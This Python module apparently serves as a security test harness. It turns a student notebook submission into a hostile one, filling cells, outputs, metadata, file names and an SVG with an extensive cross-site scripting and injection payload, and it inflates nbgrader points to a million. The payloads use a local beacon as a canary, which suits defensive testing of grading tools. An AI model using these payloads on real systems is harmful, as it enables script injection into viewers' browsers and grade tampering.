"""A submission that attacks whoever looks at it: a notebook, files and a module that are full of script.

Whatever runs or is loaded leaves a trace: `window.pwned` is set, or something named BEACON is asked for.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

BEACON = "beacon-5b1f"
URL = f"http://127.0.0.1:9/{BEACON}"
_RUN = "window.pwned=(window.pwned||0)+1"

#: Markup that acts on its own, in every way that a page may take it.
MARKUP = f"""</pre></code></textarea></title></style></script>
<script>{_RUN};fetch("{URL}-fetch")</script><script src="{URL}.js"></script><img src="{URL}.png" onerror="{_RUN}">
<svg onload="{_RUN}"><script>{_RUN}</script></svg><iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>
<iframe src="{URL}-frame"></iframe><object data="{URL}-object"></object><embed src="{URL}-embed">
<link rel="stylesheet" href="{URL}.css"><style>@import "{URL}-import.css"; body {{ background: url({URL}-bg) }}</style>
<video src="{URL}-video" onerror="{_RUN}" autoplay></video><details open ontoggle="{_RUN}">d</details>
<input autofocus onfocus="{_RUN}"><body onload="{_RUN}"><math><mtext><img src=x onerror="{_RUN}"></mtext></math>
<a id="bait" href="javascript:{_RUN}">bait</a> [bait](javascript:{_RUN}) ![]({URL}-md.png) <{URL}-auto>
$\\href{{javascript:{_RUN}}}{{x}}$ \\(\\require{{html}}\\style{{background:url({URL}-tex)}}{{x}}\\)
{{{{ constructor.constructor("{_RUN}")() }}}} {{% raw %}} <%= 1 %> \x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07
<meta http-equiv="refresh" content="0;url={URL}-refresh"><base href="{URL}/">
"""
#: A name for a file or a folder, without a slash.
NAME = f"<img src=x onerror={_RUN}>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'

#: The module: what it returns, raises and prints, and its prose.
MODULE = f"""
MARKUP = {MARKUP!r}
print(MARKUP)

class Error(ValueError):
    pass

Error.__name__ = Error.__qualname__ = MARKUP[:500]

def linear_betas(*args, **kwargs):
    raise Error(MARKUP)  # {NAME}

def cosine_betas(*args, **kwargs):
    return [MARKUP]

def alpha_bars(betas):
    return {{MARKUP: MARKUP}}
"""


def attack(folder: Path) -> None:
    """Make an honest hand-in hostile: its notebook, a second one, and files with names and content that act."""
    for path in folder.glob("*.ipynb"):
        path.write_text(json.dumps(poisoned(json.loads(path.read_text()))))
    (folder / "evil.ipynb").write_text(json.dumps(poisoned({"cells": [], "nbformat": 4, "nbformat_minor": 5})))
    for name in (f"{NAME}.py", f"{NAME}.html", "index.html", "custom.css", "custom.js", "feedback.html"):
        (folder / name).write_text(MARKUP)
    (folder / NAME).mkdir()
    (folder / NAME / "readme.html").write_text(MARKUP)
    (folder / "picture.svg").write_text(SVG)


def poisoned(notebook: dict[str, Any]) -> dict[str, Any]:
    """Every cell says more, has outputs and attachments, and claims points; the metadata are markup."""
    for cell in notebook["cells"]:
        cell["source"] = MARKUP + "".join(cell["source"])
        cell["attachments" if cell["cell_type"] != "code" else "outputs"] = _extras(cell["cell_type"])
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"comment": MARKUP, "points": 1e6, "grade_id": MARKUP[:40]}
        cell["metadata"] |= {"tags": [MARKUP], "name": MARKUP, "collapsed": MARKUP}
    notebook["cells"] += [
        {"cell_type": "markdown", "id": "own-1", "metadata": {}, "source": MARKUP, "attachments": _extras("markdown")},
        {"cell_type": "raw", "id": "own-2", "metadata": {"raw_mimetype": "text/html"}, "source": MARKUP},
        {
            "cell_type": "code",
            "id": "own-3",
            "metadata": {},
            "execution_count": 1,
            "source": "",
            "outputs": _extras("code"),
        },
    ]
    kernel = {"name": MARKUP, "display_name": MARKUP, "language": MARKUP}
    language = {"name": MARKUP, "pygments_lexer": MARKUP, "codemirror_mode": MARKUP, "file_extension": f".{NAME}"}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {MARKUP: {"model_name": MARKUP}}}}
    notebook["metadata"] = {"kernelspec": kernel, "language_info": language, "title": MARKUP, "widgets": widgets}
    return notebook


def _extras(cell_type: str) -> Any:
    kinds = {"text/html": MARKUP, "image/svg+xml": SVG, "application/javascript": f"{_RUN}", "text/latex": MARKUP}
    if cell_type != "code":
        return {NAME: {"image/svg+xml": SVG, "text/html": MARKUP}}
    return [
        {"output_type": "display_data", "metadata": {}, "data": {**kinds, "text/markdown": MARKUP}},
        {"output_type": "stream", "name": "stdout", "text": MARKUP},
        {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]},
        {"output_type": "execute_result", "metadata": {}, "execution_count": 1, "data": {"text/plain": "1000000.0"}},
    ]
